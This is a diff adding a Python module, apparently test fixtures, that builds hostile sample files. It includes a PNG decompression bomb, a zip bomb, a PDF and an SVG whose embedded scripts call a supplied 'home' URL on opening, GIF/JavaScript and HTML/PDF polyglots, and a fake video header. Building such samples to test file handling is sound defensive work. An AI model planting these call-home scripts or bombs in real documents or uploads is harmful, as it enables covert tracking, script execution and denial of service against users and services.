@@ -1,0 +1,85 @@
+"""Files that were made to do harm, or to pass for another kind: small, and each with a way to call home."""
+
+from __future__ import annotations
+
+import io
+import struct
+import zipfile
+import zlib
+
+
+def png(width: int = 8, height: int = 8, *, rows: bytes | None = None) -> bytes:
+    """A picture in one grey; with `rows`, these compressed rows under whatever size the header claims."""
+    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
+    content = rows if rows is not None else zlib.compress(b"".join(b"\0" + b"\x80" * width for _ in range(height)))
+    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", content) + _chunk(b"IEND", b"")
+
+
+def image_bomb() -> bytes:
+    """A few hundred bytes that claim nine thousand million points."""
+    return png(95_000, 95_000, rows=zlib.compress(b"\0" * 1000))
+
+
+def pdf_with_script(home: str) -> bytes:
+    """A page with a line of text, and an action that runs a script and one that asks `home` when it is opened."""
+    stream = b"BT /F1 24 Tf 40 100 Td (Plain words) Tj ET"
+    objects = [
+        b"<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R/AA<</O 7 0 R>>>>",
+        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
+        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
+        b"<</Length %d>>stream\n%s\nendstream" % (len(stream), stream),
+        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
+        b"<</S/JavaScript/JS(app.launchURL('%s/js');this.submitForm('%s/form');fetch('%s/fetch'))>>"
+        % ((home.encode(),) * 3),
+        b"<</S/URI/URI(%s/uri)>>" % home.encode(),
+    ]
+    out = b"%PDF-1.7\n"
+    places = []
+    for number, content in enumerate(objects, 1):
+        places.append(len(out))
+        out += b"%d 0 obj%s endobj\n" % (number, content)
+    start = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    out += b"".join(b"%010d 00000 n \n" % place for place in places)
+    return out + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, start)
+
+
+def svg_with_script(home: str) -> bytes:
+    """A drawing that loads from `home`, by script and by reference."""
+    return (
+        f'<svg xmlns="http://www.w3.org/2000/svg" width="90" height="90" onload="fetch(\'{home}/onload\')">'
+        f"<script>fetch('{home}/script');top.document.title='mine'</script>"
+        f'<image href="{home}/image.png" width="9" height="9"/><rect width="90" height="90" fill="teal"/></svg>'
+    ).encode()
+
+
+def page(home: str) -> bytes:
+    """A page that calls home by every way that a page has."""
+    return f"<!doctype html><script>fetch('{home}/page')</script><img src='{home}/img'>".encode()
+
+
+def gif_that_is_a_script(home: str) -> bytes:
+    """A polyglot: begins as a GIF does, and is a script all along."""
+    return b"GIF89a/*\x01\x00\x80\x00\x00*/=1;fetch('" + home.encode() + b"/gif');//;"
+
+
+def pdf_that_is_a_page(home: str) -> bytes:
+    """A polyglot: a page before the mark of a PDF, which readers look for in the first thousand bytes."""
+    return page(home) + b"\n" + pdf_with_script(home)
+
+
+def film_that_lies() -> bytes:
+    """The first box of a film, and nothing of one behind it."""
+    return struct.pack(">I", 24) + b"ftypisom\0\0\2\0isomiso2" + b"\xff" * 4000
+
+
+def zip_bomb() -> bytes:
+    """A kilobyte that would be a megabyte; it is never unpacked here, whatever its size would be."""
+    held = io.BytesIO()
+    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("zeros", bytes(1_000_000))
+    return held.getvalue()
+
+
+def _chunk(kind: bytes, content: bytes) -> bytes:
+    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
